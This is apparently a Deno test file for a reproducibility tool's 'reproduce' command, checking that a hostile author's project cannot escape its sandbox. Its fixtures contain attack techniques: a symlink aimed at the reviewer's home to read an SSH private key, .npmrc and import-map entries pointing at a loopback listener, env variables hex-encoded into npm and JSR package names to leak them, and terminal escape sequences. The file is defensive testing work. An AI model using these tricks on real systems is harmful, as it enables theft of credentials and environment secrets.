/**
 * `reproduce` on a project whose files other than its code are hostile:
 * the recording folder it copies by default is a link to the reviewer's
 * home, an `.npmrc` sends Deno's npm downloads to a server of the author's,
 * the project's `deno.json` puts its lockfile outside the scratch copy, the
 * re-run ignores the signal its time limit sends, and its output and file
 * names carry terminal escapes. Each is judged on what happened, not on
 * what reproduce says: the bytes it printed, a 127.0.0.1 listener's
 * connection count, the files outside, the time it took.
 */

import assert from "node:assert/strict";
import { childEnvironment } from "../_child_runs.ts";
import {
  projectFolder,
  reproduceCommand,
  runAuthor,
  snapshot,
  TIDEPOOL_MOD,
} from "../bundle/_paper_project.ts";
import { reproduceBundle } from "../../lib/bundle/reproduce_bundle.ts";

const HOME_SECRET = "-----BEGIN OPENSSH PRIVATE KEY----- fake-home-secret-b3e1";

const PAPER = `import * as aq from "arquero";
import { saveBundle } from "${TIDEPOOL_MOD}";
await saveBundle("out/bundle", { draft: true, tables: { counts: aq.table({ n: [1, 2, 3] }) } });
`;

/** A scene: the reviewer's home with a key, a folder outside, and a project whose paper was run. */
async function scene(prefix: string) {
  const root = await Deno.makeTempDir({ prefix });
  const home = `${root}/home`;
  const outside = `${root}/outside`;
  const project = `${root}/project`;
  await Deno.mkdir(`${home}/.ssh`, { recursive: true });
  await Deno.writeTextFile(`${home}/.ssh/id_rsa`, HOME_SECRET);
  await Deno.mkdir(outside);
  await Deno.writeTextFile(`${outside}/keep.txt`, "the reviewer's own file");
  await projectFolder(project);
  await Deno.writeTextFile(`${project}/paper.ts`, PAPER);
  await runAuthor(project, "paper.ts");
  const environment = childEnvironment({ HOME: home });
  return { root, home, outside, project, environment };
}

/** A loopback listener that counts every connection and closes it. */
function listener() {
  const server = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  let connections = 0;
  const accepting = (async () => {
    for await (const connection of server) {
      connections++;
      connection.close();
    }
  })().catch(() => {});
  return {
    port: server.addr.port,
    get connections() {
      return connections;
    },
    async close() {
      server.close();
      await accepting;
    },
  };
}

Deno.test("the default recording that links to the reviewer's home is not copied: the re-run never reads the home folder", async () => {
  const { root, home, project, environment } = await scene("tidepool-recording-link-");
  try {
    // The author ships .cache/tidepool as a link to "their" recording: on the reviewer's
    // machine it names the home folder. reproduce copies the recording into the scratch copy.
    await Deno.remove(`${project}/.cache/tidepool`, { recursive: true });
    await Deno.symlink(home, `${project}/.cache/tidepool`);
    await Deno.writeTextFile(
      `${project}/paper.ts`,
      `const recording = Deno.env.get("TIDEPOOL_CACHE_DIR");
let loot = "";
try { loot = Deno.readTextFileSync(recording + "/.ssh/id_rsa"); } catch { /* on */ }
if (loot) throw new Error("found " + loot);
${PAPER}`,
    );
    const run = await reproduceCommand(
      [`${project}/out/bundle`, `${project}/paper.ts`],
      environment,
    );
    const printed = run.stdout + run.stderr;
    assert.ok(
      !printed.includes(HOME_SECRET.slice(-16)),
      `reproduce printed the home's key:\n${printed}`,
    );
    assert.notEqual(run.code, 0, printed);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("an .npmrc in the project sends nothing to its registry: no connection reaches a loopback listener", async () => {
  const { root, project, environment } = await scene("tidepool-npmrc-");
  const net = listener();
  try {
    await Deno.writeTextFile(`${project}/.npmrc`, `registry=http://127.0.0.1:${net.port}/\n`);
    // The re-run asks Deno for an npm package named after what it found: Deno downloads
    // npm packages itself, without the run's --deny-net.
    await Deno.writeTextFile(
      `${project}/paper.ts`,
      `const found = [...new TextEncoder().encode(JSON.stringify(Deno.env.toObject()).slice(0, 40))]
  .map((b) => b.toString(16).padStart(2, "0")).join("");
try { await import(["npm:", "loot-", found, "@1.0.0"].join("")); } catch { /* on */ }
${PAPER}`,
    );
    const run = await reproduceCommand(
      [`${project}/out/bundle`, `${project}/paper.ts`],
      environment,
    );
    assert.equal(net.connections, 0, `the author's registry was reached:\n${run.stderr}`);
  } finally {
    await net.close();
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("the project's deno.json cannot put its lockfile outside the scratch copy", async () => {
  const { root, outside, project, environment } = await scene("tidepool-lock-path-");
  try {
    const before = await snapshot(outside);
    const config = JSON.parse(await Deno.readTextFile(`${project}/deno.json`));
    await Deno.writeTextFile(
      `${project}/deno.json`,
      JSON.stringify({ ...config, lock: { path: `${outside}/written.lock` } }),
    );
    // An npm package tidepool's own lock holds (so it is in Deno's cache): Deno writes its lock.
    await Deno.writeTextFile(`${project}/paper.ts`, `import "npm:canonicalize@2.1.0";\n`);
    const run = await reproduceCommand(
      [`${project}/out/bundle`, `${project}/paper.ts`],
      environment,
    );
    assert.deepEqual(
      await snapshot(outside),
      before,
      `a file was written outside the project:\n${run.stdout}${run.stderr}`,
    );
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

/**
 * The specifiers a re-run builds at run time (so no step before the run can
 * see them), each a way to make Deno fetch: npm and JSR packages named after
 * what it found, an import-map entry and a URL on the listener, and jsr.io.
 */
const FETCHES = (port: number) =>
  `const found = [...new TextEncoder().encode(JSON.stringify(Deno.env.toObject()).slice(0, 20))]
  .map((b) => b.toString(16).padStart(2, "0")).join("");
const listener = ["http://127.0.0.1:", ${port}, "/"].join("");
// A registry and a proxy the run names for itself, in case Deno reads them late.
for (const name of ["NPM_CONFIG_REGISTRY", "JSR_URL", "HTTP_PROXY", "HTTPS_PROXY"]) {
  Deno.env.set(name, listener);
}
const specifiers = [
  ["npm:", "loot-", found, "@1.0.0"], ["npm:", "canonicalize", "@2.0.0"],
  ["jsr:", "@loot/", "x", found, "@1.0.0"], ["lo", "ot"], [listener, found, ".ts"],
  ["https://", "jsr.io/@loot/", "x", found, "/mod.ts"],
].map((parts) => parts.join(""));
let refused = 0;
for (const specifier of specifiers) {
  try { await import(specifier); } catch { refused++; }
}
if (refused !== specifiers.length) throw new Error("an import was served: " + refused);
`;

Deno.test("nothing the re-run asks Deno to fetch leaves the machine: npm, jsr, an import map, a registry or proxy it sets, an .npmrc anywhere", async () => {
  const { root, project, environment } = await scene("tidepool-fetch-");
  const net = listener();
  try {
    // The author's registry, at the root and in a folder of the project.
    await Deno.writeTextFile(`${project}/.npmrc`, `registry=http://127.0.0.1:${net.port}/\n`);
    await Deno.mkdir(`${project}/analysis`);
    await Deno.writeTextFile(
      `${project}/analysis/.npmrc`,
      `registry=http://127.0.0.1:${net.port}/\n@loot:registry=http://127.0.0.1:${net.port}/\n`,
    );
    const config = JSON.parse(await Deno.readTextFile(`${project}/deno.json`));
    config.imports.loot = `http://127.0.0.1:${net.port}/loot.ts`;
    await Deno.writeTextFile(`${project}/deno.json`, JSON.stringify(config));
    await Deno.writeTextFile(`${project}/paper.ts`, FETCHES(net.port) + PAPER);
    const run = await reproduceCommand(
      [`${project}/out/bundle`, `${project}/paper.ts`],
      environment,
    );
    // The re-run went past every import to its bundle: each was refused without a connection.
    assert.equal(run.code, 0, run.stdout + run.stderr);
    assert.match(run.stdout, /counts\.parquet +same/);
    assert.equal(net.connections, 0, `the listener was reached:\n${run.stdout}${run.stderr}`);

    // A static import of the listener is refused before the run, by the step that fetches.
    await Deno.writeTextFile(
      `${project}/paper.ts`,
      `import "http://127.0.0.1:${net.port}/static.ts";\n${PAPER}`,
    );
    const stat = await reproduceCommand(
      [`${project}/out/bundle`, `${project}/paper.ts`],
      environment,
    );
    assert.equal(stat.code, 1, stat.stdout + stat.stderr);
    assert.match(stat.stderr, /Cannot reproduce: Deno cannot fetch the imports of paper\.ts/);
    assert.equal(net.connections, 0, "the static import reached the listener");
  } finally {
    await net.close();
    await Deno.remove(root, { recursive: true });
  }
});

/** Every file below a folder, not following links, whose bytes hold `text`. */
async function filesHolding(dir: string, text: string): Promise<string[]> {
  const needle = new TextEncoder().encode(text);
  const found: string[] = [];
  const walk = async (folder: string) => {
    for await (const entry of Deno.readDir(folder)) {
      const path = `${folder}/${entry.name}`;
      if (entry.isDirectory) await walk(path);
      else if (entry.isFile && holds(await Deno.readFile(path), needle)) found.push(path);
    }
  };
  await walk(dir);
  return found;
}

function holds(bytes: Uint8Array, needle: Uint8Array): boolean {
  outer: for (let i = 0; i + needle.length <= bytes.length; i++) {
    for (let j = 0; j < needle.length; j++) if (bytes[i + j] !== needle[j]) continue outer;
    return true;
  }
  return false;
}

Deno.test("Deno writes none of the re-run's own files outside the scratch copy: lockfile, node_modules, vendor, DENO_DIR stores, coverage", async () => {
  const { root, outside, project, environment } = await scene("tidepool-deno-files-");
  try {
    // The reviewer's DENO_DIR, with the machine's package caches in it, so the test sees what lands there.
    const { npmCache, modulesCache } = JSON.parse(
      new TextDecoder().decode(
        (await new Deno.Command(Deno.execPath(), { args: ["info", "--json"] }).output()).stdout,
      ),
    );
    const denoDir = `${root}/deno-dir`;
    await Deno.mkdir(denoDir);
    await Deno.symlink(npmCache, `${denoDir}/npm`);
    await Deno.symlink(modulesCache, `${denoDir}/remote`);
    const before = await snapshot(outside);
    const config = JSON.parse(await Deno.readTextFile(`${project}/deno.json`));
    await Deno.writeTextFile(
      `${project}/deno.json`,
      JSON.stringify({
        ...config,
        lock: `${outside}/string-form.lock`,
        nodeModulesDir: "auto",
        vendor: true,
        unstable: ["kv"],
      }),
    );
    // What the run stores where Deno keeps it (localStorage, the Cache API, KV) needs no permission;
    // the mark is made at run time, so only a store of the run's can hold it.
    await Deno.writeTextFile(
      `${project}/paper.ts`,
      `import "npm:canonicalize@2.1.0";
const mark = ["tidepool", "run", "store", String(6 * 7)].join("-");
localStorage.setItem("k", mark);
await (await caches.open("c")).put("http://127.0.0.1:9/", new Response(mark));
const kv = await Deno.openKv();
await kv.set(["k"], mark);
kv.close();
for (const folder of ["node_modules", "vendor"]) {
  if (await Deno.stat(folder).then(() => true, () => false)) throw new Error("Deno made " + folder);
}
${PAPER}`,
    );
    const run = await reproduceCommand(
      [`${project}/out/bundle`, `${project}/paper.ts`],
      // The reviewer collects coverage of their own processes: never of the author's code.
      { ...environment, DENO_DIR: denoDir, DENO_COVERAGE_DIR: `${root}/coverage` },
    );
    assert.equal(run.code, 0, run.stdout + run.stderr);
    assert.match(run.stdout, /counts\.parquet +same/);
    assert.deepEqual(await snapshot(outside), before, "a file was written outside the project");
    assert.deepEqual(
      await filesHolding(denoDir, ["tidepool", "run", "store", "42"].join("-")),
      [],
      "the run's stores landed in the reviewer's DENO_DIR",
    );
    const covered = await Deno.stat(`${root}/coverage`).then(() => true, () => false);
    assert.deepEqual(
      covered ? await filesHolding(`${root}/coverage`, "/project/paper.ts") : [],
      [],
      "the reviewer's coverage folder holds the run's",
    );
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("a re-run that ignores SIGTERM still ends at the time limit", async () => {
  const { root, project } = await scene("tidepool-sigterm-");
  try {
    await Deno.writeTextFile(
      `${project}/paper.ts`,
      `Deno.addSignalListener("SIGTERM", () => {});
await new Promise((resolve) => setTimeout(resolve, 20_000));
`,
    );
    const started = Date.now();
    await assert.rejects(
      reproduceBundle(`${project}/out/bundle`, `${project}/paper.ts`, { timeoutMs: 1_500 }),
    );
    const took = Date.now() - started;
    assert.ok(took < 10_000, `reproduce took ${took} ms with a 1.5 s limit`);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("reproduce prints no terminal escape of the re-run's: neither its error nor a table's file name", async () => {
  const { root, project, environment } = await scene("tidepool-escapes-");
  try {
    const paint = "\\u001b[2J\\u001b[H\\u001b]0;ok\\u0007reproduced: 1 of 1 tables";
    await Deno.writeTextFile(`${project}/paper.ts`, `throw new Error("${paint}");\n`);
    const failed = await reproduceCommand(
      [`${project}/out/bundle`, `${project}/paper.ts`],
      environment,
    );
    await Deno.writeTextFile(
      `${project}/paper.ts`,
      `${PAPER}await Deno.copyFile("out/bundle/counts.parquet", "out/bundle/${paint}.parquet");\n`,
    );
    const listed = await reproduceCommand(
      [`${project}/out/bundle`, `${project}/paper.ts`],
      environment,
    );
    for (const run of [failed, listed]) {
      const printed = run.stdout + run.stderr;
      assert.equal(run.code, 1, printed);
      for (const control of ["\u001b", "\u0007"]) {
        assert.ok(
          !printed.includes(control),
          `reproduce printed the re-run's escapes:\n${printed}`,
        );
      }
    }
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});
